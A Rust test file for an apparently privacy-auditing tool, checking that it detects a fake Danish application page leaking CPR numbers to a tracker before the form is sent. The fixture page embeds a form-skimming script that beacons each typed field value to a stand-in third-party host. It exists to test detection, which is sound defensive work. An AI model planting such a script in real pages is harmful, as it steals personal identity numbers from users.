//! A number of its own in every field: what leaks names the field it came from, also before anything was sent.

mod kit;

use kit::served::Served;
use kit::{no_browser, one_browser};
use sites::{HostedSite, Reply};

const SITE: &str = "www.borger.test";
const TRACKER: &str = "maaling.eksempel.test";
/// A session recorder that copies what is typed, as it is typed.
const PAGE: &str = "<!doctype html><html lang=da><title>Ans\u{f8}gning</title><h1>Ans\u{f8}gning</h1>
<form id=ansoegning method=post action=/send>
<label>CPR-nummer <input name=cpr></label>
<label>Barnets CPR-nummer <input name=barn_cpr></label>
<button>Send</button></form>
<script>
for (const field of document.querySelectorAll('input')) {
  field.addEventListener('change', () =>
    navigator.sendBeacon('https://maaling.eksempel.test/c', 'f' + field.name.length + '=' + field.value));
}
</script>";

#[test]
fn what_leaks_before_it_is_sent_names_its_field() {
    let _alone = one_browser();
    if no_browser() {
        return;
    }
    let served = Served::start(vec![
        HostedSite::new(SITE, |received| match received.path() {
            "/" => Reply::html(PAGE),
            _ => Reply::no_content(),
        }),
        HostedSite::new(TRACKER, |_| Reply::no_content()),
    ]);
    served.bench.run(&served.arguments(&["audit", &format!("https://{SITE}/")])).ends_with(1);
    assert_eq!(served.received_by(TRACKER).len(), 2);
    let scan = served.bench.scan();
    let findings = scan["findings"].as_array().map(Vec::as_slice).unwrap_or_default();
    let mut told: Vec<(String, String)> = Vec::new();
    // Each is told twice: that it was sent, and that it was before the form was.
    let before = findings.iter().filter(|finding| finding["rule"] == "form-exfiltration");
    assert_eq!(before.count(), 2);
    let sent = findings.iter().filter(|finding| finding["rule"] == "cpr-in-third-party-request");
    for finding in sent.filter(|finding| finding["recipient"]["domain"] == "eksempel.test") {
        assert_eq!((&finding["form"]["form"], &finding["evidence"]), (&"ansoegning".into(), &"E1".into()), "{finding}");
        told.push((finding["parameter"].to_string(), finding["form"]["field"].to_string()));
    }
    told.sort();
    let fields: Vec<&str> = told.iter().map(|(_, field)| field.trim_matches('"')).collect();
    assert_eq!(fields, ["cpr", "barn_cpr"], "{told:?}");
    // Only those that were typed are named as the run's.
    let persons: Vec<&String> = scan["test_persons"].as_object().into_iter().flat_map(|all| all.keys()).collect();
    assert_eq!(persons, ["built-in", "made-up-01", "made-up-02"]);
}
